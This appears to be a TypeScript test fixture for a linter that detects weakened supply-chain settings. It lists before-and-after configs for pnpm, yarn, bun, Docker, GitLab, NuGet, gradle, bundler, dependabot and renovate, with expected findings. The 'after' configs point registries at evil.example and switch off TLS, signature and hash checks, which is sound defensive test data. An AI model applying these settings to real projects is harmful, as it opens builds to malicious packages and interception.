import { ci, workflow } from './pair.ts';
import type { Loosening } from './pair.ts';

/** A second lot, written before it was run. */
export const secondLot: readonly Loosening[] = [
  [
    'pnpm in .npmrc',
    { '.npmrc': 'minimum-release-age=1440\n' },
    { '.npmrc': 'minimum-release-age=0\n' },
    ['release-age-lowered .npmrc:1'],
  ],
  [
    'pnpm: the default registry',
    { 'pnpm-workspace.yaml': '' },
    { 'pnpm-workspace.yaml': 'registries:\n  default: https://evil.example/\n' },
    ['registry-changed pnpm-workspace.yaml:2'],
  ],
  [
    'pnpm: not strict any more',
    { 'pnpm-workspace.yaml': 'minimumReleaseAgeStrict: true\n' },
    { 'pnpm-workspace.yaml': 'minimumReleaseAgeStrict: false\n' },
    ['trust-policy-loosened pnpm-workspace.yaml:1'],
  ],
  [
    'yarn: hardened mode, a pattern',
    { '.yarnrc.yml': 'enableHardenedMode: true\n' },
    { '.yarnrc.yml': 'npmPreapprovedPackages:\n  - "@acme/*"\n' },
    ['hash-checking-dropped .yarnrc.yml:1', 'release-age-excluded .yarnrc.yml:1'],
  ],
  [
    'yarn 1',
    { '.yarnrc': 'lastUpdateCheck 1\n' },
    { '.yarnrc': 'registry "https://evil.example"\nstrict-ssl false\n' },
    ['registry-changed .yarnrc:1', 'tls-verification-off .yarnrc:2'],
  ],
  [
    'bun: a registry with its token',
    { 'bunfig.toml': '' },
    { 'bunfig.toml': '[install]\nregistry = { url = "https://evil.example", token = "$T" }\n' },
    ['registry-changed bunfig.toml:2'],
  ],
  [
    'an image of another index',
    { Dockerfile: 'FROM python\n' },
    { Dockerfile: 'FROM python\nENV PIP_INDEX_URL=https://evil.example/simple\nRUN pip install -r r.txt\n' },
    ['registry-changed Dockerfile:2'],
  ],
  [
    'GitLab',
    { '.gitlab-ci.yml': 'build:\n  script:\n    - npm ci\n' },
    { '.gitlab-ci.yml': 'variables:\n  GONOSUMDB: "*"\nbuild:\n  script:\n    - npm i\n' },
    ['frozen-install-dropped .gitlab-ci.yml:5', 'hash-checking-dropped .gitlab-ci.yml:2'],
  ],
  [
    'a variable of npm',
    { [ci]: workflow('npm ci') },
    { [ci]: `env:\n  NPM_CONFIG_STRICT_SSL: "false"\n${workflow('npm ci')}` },
    [`tls-verification-off ${ci}:2`],
  ],
  [
    'composer told to',
    { [ci]: workflow('composer install') },
    { [ci]: workflow('composer config -g secure-http false', 'composer install') },
    [`tls-verification-off ${ci}:6`],
  ],
  [
    'nuget: signatures',
    {
      'nuget.config':
        '<configuration><config>\n<add key="signatureValidationMode" value="require"/></config></configuration>',
    },
    {
      'nuget.config':
        '<configuration><config>\n<add key="signatureValidationMode" value="accept"/></config></configuration>',
    },
    ['hash-checking-dropped nuget.config:2'],
  ],
  [
    'nuget: locked mode in the build',
    {
      'Directory.Build.props':
        '<Project><PropertyGroup>\n<RestoreLockedMode>true</RestoreLockedMode>\n</PropertyGroup></Project>',
    },
    {
      'Directory.Build.props':
        '<Project><PropertyGroup>\n<RestoreLockedMode>false</RestoreLockedMode>\n</PropertyGroup></Project>',
    },
    ['frozen-install-dropped Directory.Build.props:2'],
  ],
  [
    'gradle in CI',
    { [ci]: workflow('./gradlew build') },
    { [ci]: workflow('./gradlew --dependency-verification off build') },
    [`hash-checking-dropped ${ci}:6`],
  ],
  [
    'dependabot: no waiting',
    {
      '.github/dependabot.yml':
        'updates:\n  - package-ecosystem: npm\n    directory: /\n    cooldown:\n      default-days: 7\n',
    },
    { '.github/dependabot.yml': 'updates:\n  - package-ecosystem: npm\n    directory: /\n' },
    ['update-cooldown-cut .github/dependabot.yml:5'],
  ],
  [
    'renovate: none for some',
    { 'renovate.json': '{"minimumReleaseAge": "7 days"}' },
    {
      'renovate.json':
        '{"minimumReleaseAge": "7 days", "packageRules": [\n{"matchPackageNames": ["x"], "minimumReleaseAge": null}]}',
    },
    ['update-cooldown-cut renovate.json:2'],
  ],
  [
    'a Makefile',
    { Makefile: 'build:\n\tnpm ci\n' },
    { Makefile: 'build:\n\tnpm install\n' },
    ['frozen-install-dropped Makefile:2'],
  ],
  [
    'bundler told to',
    { [ci]: workflow('bundle config set --local frozen true', 'bundle install') },
    { [ci]: workflow('bundle config set --local frozen false', 'bundle install') },
    [`frozen-install-dropped ${ci}:6`],
  ],
  [
    'a TLS switch of git for one command',
    { [ci]: workflow('npm ci') },
    { [ci]: workflow('git -c http.sslVerify=false clone https://x.example/y', 'npm ci') },
    [`tls-verification-off ${ci}:6`],
  ],
];
